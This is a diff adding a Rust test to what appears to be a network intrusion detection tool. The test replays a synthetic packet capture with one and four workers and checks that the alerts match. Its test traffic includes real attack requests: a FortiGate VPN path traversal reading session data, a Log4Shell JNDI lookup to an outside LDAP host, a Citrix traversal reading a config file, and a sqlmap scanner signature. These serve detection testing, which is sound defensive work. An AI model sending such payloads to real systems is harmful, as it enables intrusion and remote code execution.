@@ -434,3 +434,57 @@ fn telnet_to_the_internet() {
         &[],
     );
 }
+
+/// Same capture, same rules: the same alerts with 1 and 4 workers.
+#[test]
+fn alerts_are_deterministic_across_worker_counts() {
+    let requests = [
+        "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\r\nHost: vpn\r\n\r\n",
+        "GET / HTTP/1.1\r\nHost: ehr\r\nUser-Agent: ${jndi:ldap://203.0.113.50:1389/a}\r\n\r\n",
+        "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\r\nHost: gw\r\n\r\n",
+        "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: sqlmap/1.7.2#stable\r\n\r\n",
+        "GET /index.html HTTP/1.1\r\nHost: ehr\r\n\r\n",
+    ];
+    let mut frames = Vec::new();
+    for i in 0..40u32 {
+        let client = Host::v4(&format!("203.0.113.{}", 10 + i));
+        let server = Host::v4(&format!("10.20.0.{}", 1 + i % 9));
+        let mut s = TcpSession::new(client, 40000 + i as u16, server, 80, i, 7 * i)
+            .starting_at(T0_MICROS + u64::from(i) * 3_000);
+        frames.extend(s.handshake());
+        frames.push(s.send(
+            Dir::ToServer,
+            requests[i as usize % requests.len()].as_bytes(),
+        ));
+        frames.push(s.send(
+            Dir::ToClient,
+            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
+        ));
+        frames.extend(s.close());
+    }
+    frames.sort_by_key(|f| f.ts_micros);
+    let dir = tempfile::tempdir().expect("tmp");
+    let pcap = dir.path().join("mix.pcap");
+    write_pcap(&pcap, 1, &frames).expect("write");
+    let mut runs = Vec::new();
+    for workers in ["1", "4"] {
+        let eve = dir.path().join(format!("eve{workers}.json"));
+        let out = Command::new(env!("CARGO_BIN_EXE_wardwatch"))
+            .args(["replay", "--workers", workers, "--eve"])
+            .arg(&eve)
+            .arg(&pcap)
+            .output()
+            .expect("run");
+        assert!(out.status.success());
+        let mut alerts: Vec<String> = read_eve(&eve)
+            .iter()
+            .filter(|e| e["event_type"] == "alert")
+            .map(|e| e.to_string())
+            .collect();
+        alerts.sort();
+        runs.push(alerts);
+    }
+    // 4 of every 5 conversations attack: 32 alerts.
+    assert_eq!(runs[0].len(), 32);
+    assert_eq!(runs[0], runs[1]);
+}
